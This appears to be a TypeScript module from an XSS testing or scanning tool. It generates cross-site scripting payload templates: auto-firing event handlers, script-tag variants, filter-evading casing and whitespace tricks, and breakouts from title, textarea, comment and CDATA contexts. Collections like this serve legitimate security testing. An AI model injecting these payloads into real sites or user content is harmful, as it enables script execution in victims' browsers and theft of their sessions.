import type { InjectionForm } from './injection-form.ts'

/** Elements that run what stands in an attribute without anybody touching them; `@` is where it stands. */
const startingByThemselves = [
  '<img src=x onerror=@>',
  '<image src=x onerror=@>',
  '<svg onload=@>',
  '<svg><image href=x onerror=@></image></svg>',
  '<svg><animate attributeName=x dur=1s onbegin=@ /></svg>',
  '<svg><set attributeName=x to=y onbegin=@ /></svg>',
  '<body onload=@>',
  '<body onpageshow=@>',
  '<iframe onload=@></iframe>',
  '<iframe srcdoc="<script>parent.@</script>"></iframe>',
  '<video src=x onerror=@></video>',
  '<video><source src=x onerror=@></video>',
  '<audio src=x onerror=@></audio>',
  '<picture><source srcset=x><img src=x onerror=@></picture>',
  '<object data=/healthz onload=@></object>',
  '<object data=x onerror=@></object>',
  '<embed src=/healthz onload=@>',
  '<link rel=stylesheet href=x onerror=@>',
  '<style onload=@>a{}</style>',
  '<script src=x onerror=@></script>',
  '<details open ontoggle=@>x</details>',
  '<input autofocus onfocus=@>',
  '<input type=image src=x onerror=@>',
  '<select autofocus onfocus=@><option>x</select>',
  '<textarea autofocus onfocus=@></textarea>',
  '<button autofocus onfocus=@>x</button>',
  '<a href=# autofocus onfocus=@>x</a>',
  '<p contenteditable autofocus onfocus=@>x</p>',
  '<made-up tabindex=0 autofocus onfocus=@>x</made-up>',
  '<marquee onstart=@>x</marquee>',
  '<p style="animation:a 1s" onanimationstart=@>x</p><style>@keyframes a{}</style>',
]

/** What runs when somebody points, types or presses. */
const waitingForSomebody = [
  'onclick',
  'ondblclick',
  'onauxclick',
  'oncontextmenu',
  'onmousedown',
  'onmouseover',
  'onmouseenter',
  'onmousemove',
  'onpointerover',
  'onpointerdown',
  'onpointerrawupdate',
  'onwheel',
  'onscroll',
  'onkeydown',
  'onfocusin',
  'onblur',
  'oncopy',
  'onpaste',
  'ondragstart',
  'onselectstart',
  'onbeforeinput',
  'ontransitionend',
  'ontouchstart',
  'oncontentvisibilityautostatechange',
]

const scripts = [
  '<script>@</script>',
  '<SCRIPT >@</SCRIPT >',
  '<script type=module>@</script>',
  '<script type="text/javascript">@//</script>',
  '<script\n>@</script\n>',
  '<script/x>@</script>',
  '<svg><script>@</script></svg>',
  '<math><script>@</script></math>',
  '<script src="data:text/javascript,@"></script>',
  '<svg><script href="data:text/javascript,@" /></svg>',
  '<scr<script>ipt>@</scr</script>ipt>',
  '<template shadowrootmode=open><script>@</script></template>',
  '<<script>@</script>',
  '<script>@',
]

/** The same element, written as few people would. */
const odd = [
  '<ImG sRc=x OnErRoR=@>',
  '<img/src="x"/onerror=@>',
  '<img\tsrc=x\tonerror=@>',
  '<img\nsrc=x\nonerror\n=\n@>',
  '<img\fsrc=x\fonerror=@>',
  '<img src=x onerror="@">',
  "<img src=x onerror='@'>",
  '<img src=x onerror=@//',
  '<img src=x onerror=@ <p>',
  '<img src=x onerror = @ >',
  '<img """><script>@</script>">',
  '<img src=x x=">" onerror=@>',
  '<img src=x onerror=@ onerror=1>',
  '<img src=x: alt=onerror onerror=@>',
]

/** Where the parser of HTML goes by other rules, and how one gets out of there. */
const rooms = [
  'title',
  'textarea',
  'style',
  'script',
  'noscript',
  'xmp',
  'iframe',
  'noembed',
  'noframes',
  'template',
  'select',
  'table',
  'svg',
  'math',
  'button',
  'a',
]

const write =
  (pattern: string): InjectionForm =>
  ({ run }) =>
    pattern.replace('@', run)

export const markupForms: InjectionForm[] = [
  ...[...startingByThemselves, ...scripts, ...odd].map(write),
  ...waitingForSomebody.map((name) => write(`<p tabindex=0 ${name}=@>touch</p>`)),
  ...rooms.flatMap((room) => [
    write(`</${room}><img src=x onerror=@>`),
    write(`<${room}><img src=x onerror=@></${room}>`),
  ]),
  write('--><img src=x onerror=@><!--'),
  write('<!--><img src=x onerror=@>-->'),
  write(']]><img src=x onerror=@>'),
  write('<![CDATA[><img src=x onerror=@>]]>'),
  write('<?x ><img src=x onerror=@>'),
]
